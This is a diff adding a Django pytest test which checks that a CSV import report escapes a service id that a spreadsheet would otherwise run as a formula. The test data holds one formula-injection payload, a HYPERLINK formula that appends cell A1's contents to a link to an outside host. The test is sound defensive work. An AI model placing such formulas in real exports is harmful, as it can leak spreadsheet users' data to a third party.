@@ -207,6 +207,18 @@ def test_xlsx_import_with_one_sheet_per_kind(client_admin_a, dep_a, geo, django_
         assert Service.objects.get(di_id="dora--x1").zone_eligibilite == ["76540", "76"]
 
 
+def test_report_quotes_a_value_a_spreadsheet_would_run_as_a_formula(
+    client_admin_a, geo, django_capture_on_commit_callbacks
+):
+    piege = '=HYPERLINK("https://exemple.fr/?"&A1;"Ouvrir")'
+    services_piege = [{**SERVICES[0], "id": piege, "thematiques": ["theme-inconnu"]}]
+    row = run_upload(client_admin_a, django_capture_on_commit_callbacks, json_file(STRUCTURES + services_piege))
+    response = client_admin_a.get(reverse("offre:import_rapport", args=[row.uid]))
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    identifiants = [line[3] for line in lines[1:]]
+    assert "'" + piege in identifiants and piege not in identifiants
+
+
 @pytest.mark.parametrize(
     ("name", "content", "message"),
     [
